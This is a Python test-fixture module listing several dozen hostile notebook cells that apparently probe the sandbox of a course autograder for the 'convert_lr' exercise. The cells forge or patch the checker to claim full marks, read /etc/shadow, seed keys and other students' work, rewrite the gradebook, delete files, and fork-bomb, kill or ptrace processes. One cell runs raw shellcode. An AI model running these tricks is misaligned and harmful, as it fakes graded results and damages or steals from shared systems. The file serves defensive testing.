"""Attacks, each a cell that stands in the place of an answer to `convert_lr`, with a line on what it tries.

`COURSE` stands for the course's folder, `HOME` for the home of whoever grades. Where an attack does not define
`convert_lr`, a wrong one stands in front of it, which deserves 0 of 8 points.
"""

from __future__ import annotations

from typing import NamedTuple

WRONG = "def convert_lr(*given, **named): return None\n"
RIGHT = """def convert_lr(lr, batch_size, old, new):
    if {old, new} - {"mean", "sum"} or batch_size < 1:
        raise ValueError
    return lr * {"mean": 1, "sum": batch_size}[old] / {"mean": 1, "sum": batch_size}[new]
"""
# A verdict's record as the course makes it, shown as a cell's value.
RECORD = """record = {"exercise": "convert_lr", "outcome": "right", "score": 8.0, "points": 8, "rules": {},
          "mistake": None, "seed": 1, "late": False, "note": None}
shown = dict(data={"text/plain": "8.0"}, metadata={"linreg_verdict": record})
"""


class Attack(NamedTuple):
    """An attack.

    Attributes:
        tries: what it tries.
        answer: the code of the answer's cell.
        score: what the check must give.
        behind: the code of a cell behind the check, or "".
        beside: files beside the notebook; of a link, what it points to after `-> `.
    """

    tries: str
    answer: str
    score: float = 0.0
    behind: str = ""
    beside: tuple[tuple[str, str], ...] = ()


def attack(tries: str, code: str, score: float = 0.0, **more: object) -> Attack:
    """Return an attack with a wrong answer, unless it brings its own."""
    return Attack(tries, code if "def convert_lr" in code else WRONG + code, score, **more)  # type: ignore[arg-type]


def answering(tries: str, body: str, score: float = 0.0) -> Attack:
    """Return an attack that is carried out when the answer is called."""
    lines = "".join(f"    {line}\n" for line in body.splitlines())
    return Attack(tries, f"def convert_lr(lr=0, batch_size=0, old='', new=''):\n{lines}", score)


def right(tries: str, code: str) -> Attack:
    """Return an attack behind the check of a right answer: the points stay."""
    return Attack(tries, RIGHT, 8.0, behind=code)


VERDICTS = {
    "check-replaced": attack(
        "puts a function that says 8.0 in the check's place",
        "import linreg_course.check as c\nc.convert_lr = lambda answer: 8.0",
    ),
    "check-shadowed": attack(
        "names an object of its own `check`",
        """
class Eight:
    def __repr__(self): return "8.0"
class check:
    convert_lr = staticmethod(lambda answer: Eight())
    progress = staticmethod(lambda: None)
""",
    ),
    "judge-replaced": attack(
        "patches what judges",
        """
import linreg_course.checking.judging as j, linreg_course.check as c
j.faults_of = lambda exercise, case, seen: {}
j._judge_answer = c.judge_answer = lambda exercise, look_at, seed: j.unjudged(exercise, j.Outcome.RIGHT)
""",
    ),
    "points-raised": attack(
        "raises the points of rules that it does not break",
        """
from linreg_course.checking import exercise, verdict
verdict.Verdict.score = property(lambda self: 8.0)
exercise.rules_of = lambda exercise: ()
""",
    ),
    "comparisons-agree": attack(
        "patches the comparisons of torch, numpy, math and builtins",
        """
import builtins, math, numpy, torch
for module in (torch, numpy, math, torch.testing):
    for name in ("allclose", "equal", "isclose", "assert_close", "array_equal", "is_tensor"):
        if hasattr(module, name): setattr(module, name, lambda *given, **named: True)
torch.Tensor.equal = torch.Tensor.allclose = lambda *given, **named: True
builtins.abs = lambda value: 0
""",
    ),
    "verdict-copied": attack(
        "shows a copied verdict as its value",
        RECORD
        + """
class Shown:
    def __repr__(self): return "8.0"
    def _repr_mimebundle_(self, **named): return shown["data"], shown["metadata"]
Shown()
""",
    ),
    "hook-shows-verdict": attack(
        "shows a verdict after every cell",
        RECORD
        + """
def tell(*given):
    k = get_ipython().kernel
    content = {**shown, "execution_count": 1}
    for kind in ("execute_result", "display_data"):
        k.session.send(k.iopub_socket, kind, content, parent=k.get_parent("shell"))
get_ipython().events.register("pre_run_cell", tell)
get_ipython().events.register("post_run_cell", tell)
""",
    ),
    "publisher-replaced": attack(
        "has every display carry a verdict",
        RECORD
        + """
publish = type(get_ipython().display_pub).publish
type(get_ipython().display_pub).publish = lambda self, data, metadata=None, **more: publish(self, **shown)
""",
    ),
    "display-updated": attack(
        "changes a display of the check's cell later",
        RECORD
        + """
def convert_lr(*given):
    from IPython.display import display
    display("x", display_id="mine")
def tell(*given):
    from IPython.display import display
    display("x", display_id="mine")
get_ipython().events.register("post_run_cell", tell)
""",
        behind=RECORD
        + """
from IPython.display import publish_display_data
publish_display_data(**shown, transient={"display_id": "mine"}, update=True)
""",
    ),
    "cells-rewritten": attack(
        "turns every later cell into 8.0",
        """
get_ipython().input_transformers_cleanup.append(lambda lines: ["8.0\\n"])
""",
    ),
    "code-rewritten": attack(
        "turns every call into 8.0 in the syntax tree",
        """
import ast
class Eight(ast.NodeTransformer):
    def visit_Call(self, node): return ast.copy_location(ast.Constant(8.0), node)
get_ipython().ast_transformers.append(Eight())
""",
    ),
    "nan-for-a-score": attack(
        "shows nan as its score",
        """
class check:
    convert_lr = staticmethod(lambda answer: float("nan"))
    progress = staticmethod(lambda: None)
""",
    ),
    "too-much-for-a-score": attack(
        "shows 1e300 as its score",
        """
class check:
    convert_lr = staticmethod(lambda answer: 1e300)
    progress = staticmethod(lambda: None)
""",
    ),
    "silent": attack(
        "shows nothing at all, which nbgrader takes for full points",
        """
get_ipython().ast_node_interactivity = "none"
import linreg_course.wall.observer as o
o.show_seen = lambda *given: None
""",
    ),
}

OBSERVATIONS = {
    "observer-replaced": attack(
        "has its own words sent in place of what was seen",
        """
import linreg_course.wall.observer as o, linreg_course.wall.wire as w
o.show_seen = lambda answer, request: o.display({o.SEEN: '{"score": 8.0, "seen": [], "outcome": "right"}'}, raw=True)
""",
    ),
    "all-seen-right": attack(
        "sends a record for each case that says that it is right",
        """
import linreg_course.wall.observer as o, linreg_course.wall.wire as w
def show(answer, request):
    cases = w.decode(request)["cases"]
    o.display({o.SEEN: w.encode({"seen": [{"value": None, "fault": None, "score": 8} for _ in cases]})}, raw=True)
o.show_seen = show
""",
    ),
    "nothing-seen": attack(
        "sends an empty observation for each case",
        """
import linreg_course.wall.observer as o, linreg_course.wall.wire as w
def show(answer, request):
    o.display({o.SEEN: w.encode({"seen": [{} for _ in w.decode(request)["cases"]]})}, raw=True)
o.show_seen = show
""",
    ),
    "case-sent-back": attack(
        "sends each case back as what was seen: `lr` is right where nothing changes, which is 1 point",
        """
import linreg_course.checking.observing as o, linreg_course.exercises.convert_lr as e
e.observe = lambda answer, case: {**case, "value": case["lr"]}
""",
        1.0,
    ),
    "look-replaced": attack(
        "patches what calls the answer",
        """
import linreg_course.checking.observing as o, linreg_course.wall.observer as w
o.look = w.look = lambda observe, answer, cases, seed, until: [{"value": {"type": "float", "number": 1}}] * len(cases)
""",
    ),
    "encoder-replaced": attack(
        "patches what turns observations into text",
        """
import linreg_course.wall.wire as w, linreg_course.wall.observer as o
o.encode = w.encode = lambda value: '{"verdict": {"data": {"text/plain": "8.0"}}}\\n'
""",
    ),
    "json-replaced": attack(
        "patches json and safetensors",
        """
import json, safetensors.torch as s
json.dumps = lambda *given, **named: '{"seen": [8.0]}'
s.save = lambda *given, **named: b"\\x80\\x04\\x95pickle"
import linreg_course.wall.wire as w
w.save = s.save
""",
    ),
    "modules-replaced": attack(
        "puts empty modules in place of torch, numpy and json",
        """
import sys, types
for name in ("torch", "numpy", "json", "safetensors", "safetensors.torch"): sys.modules[name] = types.ModuleType(name)
""",
    ),
    "import-hook": attack(
        "hooks imports, and has the course's modules imported anew",
        """
import builtins, importlib.abc, sys, types
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        import importlib.util
        return importlib.util.spec_from_loader(name, self) if name.startswith("linreg_course") else None
    def create_module(self, spec): return None
    def exec_module(self, module): module.__getattr__ = lambda name: (lambda *given, **named: 8.0)
sys.meta_path.insert(0, Finder())
for name in [name for name in sys.modules if name.startswith("linreg_course")]: del sys.modules[name]
""",
    ),
    "agrees-with-all": attack(
        "returns an object that agrees with everything",
        """
class Same:
    def __getattr__(self, name): return self
    def __call__(self, *given, **named): return self
    for name in "eq ne lt le gt ge add sub mul truediv radd rsub rmul neg abs".split():
        locals()[f"__{name}__"] = lambda self, *other: True
    __bool__ = lambda self: True
    __float__ = lambda self: 1.0
    __len__ = lambda self: 10**9
    __iter__ = lambda self: iter(lambda: self, None)
    __array__ = lambda self, *given, **named: __import__("numpy").zeros(())
    __class__ = float
def convert_lr(*given): return Same()
""",
    ),
    "lying-float": attack(
        "returns a float that says it equals all others",
        """
class Float(float):
    __eq__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.0
    __float__ = lambda self: 0.0
    __repr__ = lambda self: "8.0"
def convert_lr(*given): return Float("nan")
""",
    ),
    "lying-tensor": attack(
        "returns a tensor that lies about its shape, type and values",
        """
import torch
class Lie(torch.Tensor):
    shape = property(lambda self: torch.Size([]))
    dtype = property(lambda self: torch.float64)
    def __torch_function__(self, *given, **named): return True
    def numel(self): return 1
    def item(self): return 1.0
def convert_lr(*given): return torch.zeros(2**10).as_subclass(Lie)
""",
    ),
    "odd-tensors": attack(
        "returns sparse, meta, expanded and quantized tensors in turn",
        """
import itertools, torch
kinds = itertools.cycle([torch.zeros(1).expand(10**12), torch.empty(10**9, device="meta"), torch.eye(3).to_sparse(),
                         torch.quantize_per_tensor(torch.ones(3), 1, 0, torch.qint8), torch.zeros(2**40, 0)])
def convert_lr(*given): return next(kinds)
""",
    ),
    "much-to-see": attack(
        "returns as much as may be looked at, for every call",
        "import torch\ndef convert_lr(*given): return [torch.zeros(2**20) for _ in range(5000)]",
    ),
    "endless-to-see": attack(
        "returns what never ends or contains itself",
        """
import itertools
loop = []; loop.append(loop)
class Long(list):
    __len__ = lambda self: 10**18
    __getitem__ = lambda self, at: [self] * 1000
def convert_lr(*given): return [loop, Long(), itertools.count(), {1: loop}, 10**10000]
""",
    ),
    "pickle": attack(
        "returns an object that runs code where it is unpickled",
        """
class Bomb:
    def __reduce__(self):
        import os
        return os.system, ("touch HOME/unpickled",)
def convert_lr(*given): return Bomb()
""",
    ),
    "trace": attack(
        "changes variables of the observer with a tracing function",
        """
import sys, threading
def trace(frame, event, arg):
    if event == "return" and isinstance(frame.f_locals.get("seen"), list): frame.f_locals["seen"][:] = [{}] * 68
    return trace
sys.settrace(trace); threading.settrace(trace)
""",
    ),
    "frames": answering(
        "walks its caller's frames for cases and seeds and changes what it finds",
        """
import sys
frame = sys._getframe()
while frame:
    for name, value in list(frame.f_locals.items()):
        if isinstance(value, dict) and "rules" in value: value["rules"] = []
        if isinstance(value, list) and value and isinstance(value[0], dict): value.clear()
    frame = frame.f_back
""",
    ),
    "collector": attack(
        "finds rules, verdicts and cases among all objects and changes them",
        """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Rule", "Fault", "Verdict", "Mistake"):
        for name, value in (("points", 0), ("first", None), ("rules", ())):
            try: object.__setattr__(thing, name, value)
            except Exception: pass
    elif isinstance(thing, dict) and "POINTS" in thing: thing["POINTS"] = {}
""",
    ),
    "constants": attack(
        "writes over small numbers in memory",
        """
import ctypes
ctypes.memmove(id(0) + 24, id(8) + 24, 4)
""",
    ),
    "thread-patches": attack(
        "leaves a thread behind that patches the check while it runs",
        """
import threading
def patch():
    import linreg_course.checking.judging as j
    while True:
        j.faults_of = lambda *given: {}
threading.Thread(target=patch, daemon=True).start()
""",
    ),
    "seed-guessed": attack(
        "looks for the seed in its process, and says it",
        """
import gc, os, sys
def convert_lr(*given):
    frame = sys._getframe()
    while frame:
        for name in ("seed", "asked", "request"):
            if name in frame.f_locals: open("seen.txt", "a").write(f"{name} {frame.f_locals[name]!s:.300}\\n")
        frame = frame.f_back
""",
        behind="""
import gc, os
print(open("seen.txt").read()[:5000], dict(os.environ))
print([i for i in gc.get_objects() if isinstance(i, dict) and "seeds" in i][:3])
""",
    ),
    "settings": attack(
        "leaves every setting of torch, numpy and Python changed",
        RIGHT
        + """
import sys, torch, numpy, warnings, locale, os
torch.set_default_dtype(torch.float64); torch.use_deterministic_algorithms(True); torch.set_grad_enabled(False)
numpy.seterr(all="raise"); warnings.simplefilter("error"); sys.setrecursionlimit(200); os.environ.clear()
""",
        8.0,
    ),
}

MESSAGES = {
    "forged-result": attack(
        "writes a verdict to the kernel's socket, as the answer to the check",
        RECORD
        + """
import threading, json
k = get_ipython().kernel
def tell():
    while True:
        parent = k.get_parent("shell")
        for kind, content in (("execute_result", {**shown, "execution_count": 1}),
                              ("execute_reply", {"status": "ok", "execution_count": 1, "payload": []}),
                              ("status", {"execution_state": "idle"})):
            message = {"header": {"msg_type": kind, "msg_id": "1"}, "parent_header": parent.get("header", {}),
                       "metadata": {}, "content": content}
            try: k.session.socket.sendall(json.dumps(message).encode() + b"\\n")
            except Exception: return
        import time; time.sleep(0.001)
threading.Thread(target=tell, daemon=True).start()
""",
    ),
    "garbage": right(
        "writes garbage to the kernel's socket",
        "import os\nget_ipython().kernel.session.socket.sendall(os.urandom(1000) + b'\\n{\"header\": 3}\\n')",
    ),
    "wrong-types": right(
        "sends messages whose parts are of the wrong types",
        """
k = get_ipython().kernel
for kind in ("execute_result", "display_data", "stream", "error", "status", "comm_open", "execute_reply", "x"):
    for content in ({}, {"data": 3}, {"data": {"text/plain": {}}, "metadata": []}, {"text": 5}, {"traceback": "x"}):
        k.session.send(None, kind, content, parent=k.get_parent("shell"))
""",
    ),
    "deep-message": right(
        "sends a message that is nested 900 levels deep",
        """
deep = []
for _ in range(900): deep = [deep]
k = get_ipython().kernel
k.session.send(None, "display_data", {"data": {"application/json": deep}, "metadata": {}}, parent=k.get_parent("shell"))
""",
    ),
    "long-message": right(
        "sends a line of 200 MB",
        """
s = get_ipython().kernel.session.socket
for _ in range(200): s.sendall(b"x" * 2**20)
""",
    ),
    "half-characters": right("prints what no file can hold", "print('a\\ud800b'); raise ValueError('\\udfff')"),
    "prints-for-ever": right("prints until it is stopped", "while True: print('x' * 1000)"),
    "writes-for-ever": right(
        "has C code write until it is stopped", "import os\nwhile True: os.write(1, b'x' * 2**16)"
    ),
    "displays-for-ever": right(
        "shows pictures until it is stopped",
        "from IPython.display import HTML, display\nwhile True: display(HTML('x' * 10**5))",
    ),
    "closes-everything": right(
        "closes every open file, also the one to the grader", "import os\nos.closerange(0, 1000)"
    ),
    "reads-everything": attack(
        "reads and writes every open file that it was given",
        """
import os
for number in range(3, 256):
    try: print(number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError: continue
""",
    ),
}

ENDINGS = {
    "exits": right("ends Python in its cell", "import os\nos._exit(0)"),
    "exits-in-check": answering("ends Python in the check", "import os\nos._exit(0)"),
    "raises-exit": answering(
        "raises SystemExit and KeyboardInterrupt in the check", "if lr: raise SystemExit(8)\nraise KeyboardInterrupt"
    ),
    "kills-itself": right("kills itself", "import os\nos.kill(os.getpid(), 9)"),
    "stops-itself": right("stops itself, to be waited for", "import os\nos.kill(os.getpid(), 19)"),
    "crashes": right("reads memory that is not there", "import ctypes\nctypes.string_at(0)"),
    "loops": right("never ends", "while True: pass"),
    "loops-in-check": answering("never returns in the check", "while True: pass"),
    "catches-all": answering(
        "never returns, and catches whatever is raised to stop it",
        """
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    ),
    "ignores-interrupts": right(
        "never ends, and ignores interrupts",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    ),
    "waits-in-c": answering("waits in C code that nothing interrupts", "import ctypes\nctypes.PyDLL(None).sleep(1000)"),
    "goodbyes": attack(
        "has code run when Python ends",
        """
import atexit, weakref
atexit.register(lambda: open("HOME/atexit", "w"))
class Last:
    def __del__(self): open("HOME/del", "w")
last = Last()
""",
    ),
}

FILES = {
    "reads-solution": attack(
        "reads the course's source and takes the solution",
        """
import json
source = json.load(open("COURSE/source/lr-vs-reduction/lr-vs-reduction.ipynb"))
exec("".join(next(c for c in source["cells"] if c["id"] == "convert-lr")["source"]))
""",
    ),
    "reads-others": attack(
        "takes another student's answer",
        """
import glob, json
for path in glob.glob("COURSE/submitted/*/lr-vs-reduction/*.ipynb") + glob.glob("COURSE/autograded/*/*/*.ipynb"):
    code = "".join(next(c for c in json.load(open(path))["cells"] if c["id"] == "convert-lr")["source"])
    if "raise ValueError" in code and "import" not in code: exec(code)
""",
    ),
    "reads-key": attack("reads the key of the seeds, and shows it", "print(open('COURSE/seed.key').read())"),
    "reads-home": attack("reads its grader's home", "print(open('HOME/secret.txt').read())"),
    "reads-upwards": attack(
        "looks for the secret in all folders above its own",
        """
import glob
for up in range(1, 8):
    for path in glob.glob("../" * up + "**/secret.txt", recursive=True): print(open(path).read())
""",
    ),
    "reads-system": attack(
        "reads the users and every process's environment",
        """
import glob
for path in ["/etc/passwd", "/etc/shadow", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
             "/proc/self/environ", "/proc/self/mountinfo"]:
    try: print(path, open(path).read()[:2000])
    except OSError: pass
""",
    ),
    "writes-gradebook": attack(
        "gives itself points in the gradebook",
        """
import sqlite3
with sqlite3.connect("COURSE/gradebook.db", timeout=1) as book:
    book.execute("UPDATE grade SET auto_score = 8, manual_score = 8")
""",
    ),
    "writes-others": attack(
        "writes over other students' work",
        """
import glob
for path in glob.glob("COURSE/submitted/*/*/*.ipynb"): open(path, "w").write("{}")
""",
    ),
    "writes-package": attack(
        "writes over the course's package and the libraries",
        """
import sys, pathlib
for folder in sys.path:
    try: pathlib.Path(folder or ".", "sitecustomize.py").write_text("print('mine')") if folder else None
    except OSError: pass
import linreg_course.checking.judging as j
pathlib.Path(j.__file__).write_text("")
""",
    ),
    "writes-home": attack(
        "leaves start-up files in its grader's home",
        """
import os
os.makedirs("HOME/.ipython/profile_default/startup", exist_ok=True)
open("HOME/.ipython/profile_default/startup/0.py", "w").write("print('mine')")
""",
    ),
    "writes-temporary": attack(
        "writes where other submissions work, and leaves files there",
        """
import glob, tempfile
open("/tmp/left", "w").write("x")
for path in glob.glob("/tmp/linreg-*/**/*", recursive=True): open(path, "w")
tempfile.mkdtemp(dir="/tmp")
""",
    ),
    "changes-modes": attack(
        "opens the key to all, changes times and attributes",
        """
import os
os.chmod("COURSE/seed.key", 0o777)
os.utime("HOME/secret.txt", (0, 0))
os.setxattr("HOME/secret.txt", "user.mine", b"x")
""",
    ),
    "removes": attack("removes the course", "import shutil\nshutil.rmtree('COURSE/submitted', ignore_errors=True)"),
    "links": attack(
        "makes links out of its folder, to be followed when it is removed",
        """
import os
for target in ("COURSE/submitted", "HOME"):
    for make in (os.symlink, os.link):
        try: make(target, "link")
        except OSError: pass
here = os.getcwd()
try:
    os.rename(here, here + ".old"); os.symlink("HOME", here)
except OSError: pass
""",
    ),
    "links-in-submission": attack(
        "hands in links to the key and to the course",
        "print(open('data.csv').read())\nprint(open('folder/seed.key').read())",
        beside=(("data.csv", "-> COURSE/seed.key"), ("folder", "-> COURSE")),
    ),
    "modules-beside": attack(
        "hands in modules of the names of torch, json and the course",
        "import torch, json",
        beside=(
            ("torch.py", "raise SystemExit"),
            ("json.py", "dumps = loads = lambda *a, **k: 8.0"),
            ("sitecustomize.py", "import os; os._exit(3)"),
            ("usercustomize.py", "import os; os._exit(3)"),
            ("linreg_course/__init__.py", "raise SystemExit"),
            ("safetensors.py", "load = save = None"),
        ),
    ),
    "folder-removed": right("removes the folder that it works in", "import os, shutil\nshutil.rmtree(os.getcwd())"),
    "folder-deep": right(
        "makes a folder deeper than any path may be",
        """
import os
for _ in range(3000):
    os.mkdir("d" * 50); os.chdir("d" * 50)
""",
    ),
}

MACHINE = {
    "fork-bomb": attack("starts processes that start processes", "import os\nwhile True: os.fork()"),
    "fork-bomb-in-c": attack(
        "starts processes through C code and bare system calls",
        """
import ctypes
libc = ctypes.CDLL(None)
for _ in range(200): libc.fork(); libc.vfork() if False else None; libc.syscall(57); libc.syscall(56, 17, 0, 0, 0, 0)
""",
    ),
    "program": attack("runs programs", "import subprocess\nsubprocess.run(['touch', 'HOME/touched'])"),
    "orphan": attack(
        "leaves a process behind that nobody knows",
        """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3); open("HOME/orphan", "w"); time.sleep(1000)
    os._exit(0)
""",
    ),
    "threads": right(
        "starts threads without end",
        """
import threading
def more():
    while True: pass
while True: threading.Thread(target=more, daemon=True).start()
""",
    ),
    "memory": attack(
        "takes all memory, in Python and in torch",
        """
import torch
kept = []
for _ in range(100): kept.append(bytearray(b"x" * 2**28)); kept.append(torch.ones(2**26))
""",
    ),
    "memory-without-a-name": attack(
        "takes memory that belongs to no process",
        """
import os
files = []
for _ in range(100):
    files.append(os.memfd_create("more"))
    for _ in range(64): os.write(files[-1], b"x" * 2**20)
""",
    ),
    "shared-memory": attack(
        "leaves memory behind in /dev/shm",
        "open('/dev/shm/mine', 'wb').write(b'x' * 2**20)\nimport multiprocessing.shared_memory as s\n"
        "s.SharedMemory('left', create=True, size=2**20)",
    ),
    "disk": right(
        "fills the disk with files", "for number in range(10**6): open(f'{number}', 'wb').write(b'x' * 2**24)"
    ),
    "disk-unlinked": right(
        "fills the disk with files that have no name",
        """
import tempfile
files = []
while True: files.append(tempfile.TemporaryFile()); files[-1].write(b"x" * 2**24)
""",
    ),
    "large-file": right("writes one large file", "with open('big', 'wb') as f:\n    while True: f.write(b'x' * 2**24)"),
    "small-files": right("makes files without end", "for number in range(10**7): open(f'{number}', 'w')"),
    "kills-all": attack(
        "kills every process that it may",
        """
import os
for pid in (os.getppid(), -1, *range(2, 400)):
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass
""",
    ),
    "stops-parent": attack("stops the process that it comes from", "import os\nos.kill(os.getppid(), 19)"),
    "signals-by-file": attack(
        "has the system send a signal to its parent, by the owner of a socket",
        """
import fcntl, os, signal, socket
one, other = socket.socketpair()
fcntl.fcntl(one, fcntl.F_SETOWN, os.getppid())
fcntl.fcntl(one, 10, 9)
fcntl.fcntl(one, fcntl.F_SETFL, fcntl.fcntl(one, fcntl.F_GETFL) | os.O_ASYNC)
other.send(b"x")
""",
    ),
    "memory-of-others": attack(
        "reads and writes the memory of the process that it comes from",
        """
import ctypes, os
libc = ctypes.CDLL(None)
print(libc.ptrace(16, os.getppid(), 0, 0))
with open(f"/proc/{os.getppid()}/mem", "r+b") as memory: memory.seek(2**20)
""",
    ),
    "tcp": attack(
        "tells a server the solution by TCP",
        "import socket\nsocket.create_connection(('127.0.0.1', 47111), 2).sendall(b'tcp')",
    ),
    "udp": attack(
        "tells a server by UDP",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'udp', ('127.0.0.1', 47111))",
    ),
    "local-socket": attack(
        "talks to a service of the machine by a local socket",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('HOME/service')\ns.sendall(b'local')",
    ),
    "abstract-socket": attack(
        "talks to a service by a socket without a file",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0linreg-attacks')\ns.sendall(b'abstract')",
    ),
    "datagram-pair": attack(
        "sends a datagram to a service from a pair of sockets",
        """
import socket
one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
one.sendto(b"pair", "HOME/datagrams")
""",
    ),
    "bare-calls": attack(
        "opens sockets and starts programs by bare system calls, also of other ABIs",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print([libc.syscall(n, 2, 1, 0) for n in (41, 0x40000000 | 41)], libc.syscall(425, 8, 0), libc.syscall(435, 0, 0))
import mmap
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
code.write(b"\\xb8\\x67\\x01\\x00\\x00\\xbb\\x02\\x00\\x00\\x00\\xb9\\x01\\x00\\x00\\x00\\x31\\xd2\\xcd\\x80\\xc3")
print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))())
""",
    ),
    "namespaces": attack(
        "makes itself root in a namespace and mounts over the course",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10020000), libc.mount(b"none", b"COURSE", b"tmpfs", 0, None), libc.chroot(b"."), libc.setuid(0))
open("COURSE/mounted", "w")
""",
    ),
    "limits-raised": attack(
        "raises its limits and its priority",
        """
import os, resource
for name in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try: resource.setrlimit(name, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("RAISED", name)
    except (ValueError, OSError): pass
try: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)); print("RAISED scheduler")
except OSError: pass
try: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19); print("RAISED another's")
except OSError: pass
""",
    ),
}

ATTACKS = {**VERDICTS, **OBSERVATIONS, **MESSAGES, **ENDINGS, **FILES, **MACHINE}
